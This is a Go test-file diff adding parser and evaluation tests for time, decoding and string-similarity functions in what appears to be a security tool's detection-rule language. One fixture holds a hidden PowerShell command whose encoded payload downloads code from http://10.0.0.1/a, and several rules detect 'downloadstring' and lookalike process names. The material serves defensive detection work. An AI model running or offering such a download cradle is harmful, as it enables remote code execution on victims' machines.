@@ -22,8 +22,10 @@ import (
 	"errors"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
 )
 
 func TestParseFunction(t *testing.T) {
@@ -44,6 +46,33 @@ func TestParseFunction(t *testing.T) {
 		{expr: "replace('hello world', 'hello', 'hell', 'world', 'war', 'hello', 'warld', 'old', 'new', 'one')", err: errors.New("old/new replacements mismatch")},
 		{expr: "indexof('hello', 'h', 'frst')", err: errors.New("frst is not a valid index search order")},
 		{expr: "base('C:\\\\Windows\\\\cmd.exe', false)"},
+		{expr: "hour(kevt.timestamp) >= 22"},
+		{expr: "hour(kevt.timestamp, 'Europe/Madrid') >= 22"},
+		{expr: "hour(kevt.timestamp, 'Europe/Mordor') >= 22", err: errors.New("Europe/Mordor is not a valid time zone")},
+		{expr: "HOUR(kevt.time, 'Europe/Madrid') >= 22"},
+		{expr: "hour('17:05:32', 'Europe/Madrid') >= 22", err: errors.New("time zone can't be applied to the time of the day 17:05:32")},
+		{expr: "weekday(kevt.timestamp) in ('Saturday', 'Sunday')"},
+		{expr: "date_diff(ps.start_time, kevt.timestamp) < 5m"},
+		{expr: "date_diff(ps.start_time, kevt.timestamp, 's') < 300"},
+		{expr: "date_diff(ps.start_time, kevt.timestamp, 'fortnight') < 1", err: errors.New("fortnight is not a valid time unit")},
+		{expr: "date_diff(ps.start_time) < 5m", err: errors.New("DATE_DIFF function requires 2 argument(s) but 1 argument(s) given")},
+		{expr: "in_time_range('22:00', '06:00')"},
+		{expr: "in_time_range('22:00', '06:00', 'UTC', kevt.timestamp)"},
+		{expr: "in_time_range('22', '06:00')", err: errors.New("22 is not a valid time of the day")},
+		{expr: "in_time_range(kevt.time, '06:00')", err: errors.New("kevt.time is not a valid time of the day")},
+		{expr: "base64_decode(cmdline_flag(ps.comm, 'enc', 'encodedcommand')) icontains 'downloadstring'"},
+		{expr: "base64_decode(ps.comm, 'utf16le') icontains 'downloadstring'"},
+		{expr: "base64_decode(ps.comm, 'utf32') icontains 'downloadstring'", err: errors.New("utf32 is not a valid encoding")},
+		{expr: "xor_decode(hex_decode(ps.comm), 65) = 'cmd.exe'"},
+		{expr: "xor_decode(ps.comm, 1.5) = 'cmd.exe'", err: errors.New("argument #2 (key) in function XOR_DECODE should be one of: string|number")},
+		{expr: "cmdline_flag(ps.comm) = 'hidden'", err: errors.New("CMDLINE_FLAG function requires 2 argument(s) but 1 argument(s) given")},
+		{expr: "cmdline_args(ps.comm) in ('-nop')"},
+		{expr: "sha256(file.name) = '4b7dde24f59b5a7599ab7db88ddaa0fbe849d541bf58f16c5dfcd4d77b355e0e'"},
+		{expr: "imphash(pe.imports) = 'f34d5f2d4577ed6d9ceec516c1f5a744'"},
+		{expr: "levenshtein(ps.name, 'svchost.exe') <= 2"},
+		{expr: "levenshtein(ps.name) <= 2", err: errors.New("LEVENSHTEIN function requires 2 argument(s) but 1 argument(s) given")},
+		{expr: "jaro_winkler(ps.name, 'svchost.exe') > 0.9"},
+		{expr: "ssdeep_compare(file.name, '96:KQhaGCVZGhr83h3bc0ok3892m12wzgnH5w2pw+sxNEI58:FIVkH4x73h39LH+2w+sxaD') > 80"},
 	}
 
 	for i, tt := range tests {
@@ -58,3 +87,114 @@ func TestParseFunction(t *testing.T) {
 		}
 	}
 }
+
+func TestTimeFunctions(t *testing.T) {
+	ts := time.Date(2022, time.March, 5, 23, 15, 0, 0, time.UTC)
+	m := map[string]interface{}{
+		"kevt.timestamp": ts,
+		"kevt.time":      "23:15:00",
+		"ps.start_time":  ts.Add(-90 * time.Second),
+	}
+
+	var tests = []struct {
+		expr    string
+		matches bool
+	}{
+		{`hour(kevt.timestamp) >= 22`, true},
+		{`hour(kevt.time) = 23`, true},
+		{`hour(kevt.time, 'Europe/Madrid') = 0`, true},
+		{`hour(kevt.timestamp, 'Asia/Tokyo') = 8`, true},
+		{`weekday(kevt.timestamp) in ('Saturday', 'Sunday')`, true},
+		{`weekday(kevt.timestamp, 'Asia/Tokyo') = 'Sunday'`, true},
+		{`WEEKDAY(kevt.time) = 'Saturday'`, true},
+		{`date_diff(ps.start_time, kevt.timestamp) < 5m`, true},
+		{`date_diff(ps.start_time, kevt.timestamp) > 1m30s`, false},
+		{`date_diff(ps.start_time, kevt.timestamp) >= 1m30s`, true},
+		{`date_diff(kevt.timestamp, ps.start_time) = -90s`, true},
+		{`date_diff(ps.start_time, kevt.timestamp) - 30s = 1m`, true},
+		{`date_diff(ps.start_time, kevt.timestamp, 's') = 90`, true},
+		{`date_diff(ps.start_time, kevt.timestamp, 'm') = 1`, true},
+		{`DATE_DIFF(ps.start_time, kevt.time, 's') = 90`, true},
+		{`date_diff(ps.start_time, ps.name) < 5m`, false},
+		{`in_time_range('22:00', '06:00', 'UTC', kevt.timestamp)`, true},
+		{`in_time_range('22:00', '06:00', 'Asia/Tokyo', kevt.timestamp)`, false},
+		{`in_time_range('09:00', '17:00', 'UTC', kevt.time)`, false},
+		{`in_time_range('22:00', '06:00', 'UTC', kevt.time)`, true},
+		{`in_time_range('22:00', '06:00')`, true},
+		{`in_time_range('08:00', '09:00', 'Asia/Tokyo')`, true},
+		{`in_time_range('09:00', '17:00', 'UTC')`, false},
+	}
+
+	for i, tt := range tests {
+		p := NewParser(tt.expr)
+		expr, err := p.ParseExpr()
+		require.NoError(t, err, tt.expr)
+		assert.Equal(t, tt.matches, Eval(expr, m, true), "%d. %q interpreter match mismatch", i, tt.expr)
+		assert.Equal(t, tt.matches, Compile(expr, true).EvalMap(m, nil), "%d. %q compiled match mismatch", i, tt.expr)
+	}
+}
+
+func TestDecodeFunctions(t *testing.T) {
+	m := map[string]interface{}{
+		"ps.comm":         `powershell.exe -NoP -W Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQAwAC4AMAAuADAALgAxAC8AYQAnACkA`,
+		"ps.sibling.comm": `cmd.exe /c "C:\Windows\Temp\run.bat" http%3A%2F%2F10.0.0.1%2Fa`,
+		"file.name":       "222c256c243924",
+	}
+
+	var tests = []struct {
+		expr    string
+		matches bool
+	}{
+		{`base64_decode(cmdline_flag(ps.comm, 'enc', 'ec', 'encodedcommand')) icontains 'downloadstring'`, true},
+		{`base64_decode(cmdline_flag(ps.comm, 'enc', 'ec', 'encodedcommand')) matches '*Net.WebClient*'`, true},
+		{`base64_decode(cmdline_flag(ps.comm, 'enc')) icontains 'downloadstring'`, false},
+		{`cmdline_flag(ps.comm, 'w', 'windowstyle') ~= 'hidden'`, true},
+		{`cmdline_flag(ps.comm, 'nop') = ''`, true},
+		{`cmdline_flag(ps.sibling.comm, 'c') = 'C:\\Windows\\Temp\\run.bat'`, true},
+		{`cmdline_args(ps.sibling.comm) in ('C:\\Windows\\Temp\\run.bat')`, true},
+		{`url_decode(ps.sibling.comm) icontains 'http://10.0.0.1/a'`, true},
+		{`xor_decode(hex_decode(file.name), 65) = 'cmd-exe'`, true},
+		{`xor_decode(hex_decode(file.name), 'A') = 'cmd-exe'`, true},
+		{`hex_decode(ps.sibling.comm) = ''`, false},
+	}
+
+	for i, tt := range tests {
+		p := NewParser(tt.expr)
+		expr, err := p.ParseExpr()
+		require.NoError(t, err, tt.expr)
+		assert.Equal(t, tt.matches, Eval(expr, m, true), "%d. %q interpreter match mismatch", i, tt.expr)
+		assert.Equal(t, tt.matches, Compile(expr, true).EvalMap(m, nil), "%d. %q compiled match mismatch", i, tt.expr)
+	}
+}
+
+func TestSimilarityFunctions(t *testing.T) {
+	m := map[string]interface{}{
+		"ps.name":   "scvhost.exe",
+		"ps.exe":    `C:\Users\Public\scvhost.exe`,
+		"file.name": "96:KQhaGCVZGhr83h3bc0ok3892m12wzgnH5w2pwZZxNEI58:FIVkH4x73h39LH+2wZZxaD",
+	}
+
+	var tests = []struct {
+		expr    string
+		matches bool
+	}{
+		{`levenshtein(ps.name, 'svchost.exe') <= 2 and ps.name != 'svchost.exe' and not ps.exe istartswith 'C:\\Windows\\System32'`, true},
+		{`levenshtein(ps.name, 'lsass.exe') < 3`, false},
+		{`levenshtein(upper(ps.name), 'SCVHOST.EXE') = 0`, true},
+		{`jaro_winkler(ps.name, 'svchost.exe') > 0.95`, true},
+		{`jaro_winkler(ps.name, 'explorer.exe') > 0.95`, false},
+		{`jaro_winkler(ps.name, 'scvhost.exe') = 1`, true},
+		{`ssdeep_compare(file.name, '96:KQhaGCVZGhr83h3bc0ok3892m12wzgnH5w2pw+sxNEI58:FIVkH4x73h39LH+2w+sxaD') > 90`, true},
+		{`ssdeep_compare(file.name, '96:MD9fHjsEuddrg31904l8bgx5ROg2MQZHZqpAlycowOsexbHDbk:MJwz/l2PqGqqbr2yk6pVgrwPV') > 0`, false},
+		{`sha1(ps.name) = sha1('scvhost.exe')`, true},
+		{`sha256(ps.name) != md5(ps.name)`, true},
+	}
+
+	for i, tt := range tests {
+		p := NewParser(tt.expr)
+		expr, err := p.ParseExpr()
+		require.NoError(t, err, tt.expr)
+		assert.Equal(t, tt.matches, Eval(expr, m, true), "%d. %q interpreter match mismatch", i, tt.expr)
+		assert.Equal(t, tt.matches, Compile(expr, true).EvalMap(m, nil), "%d. %q compiled match mismatch", i, tt.expr)
+	}
+}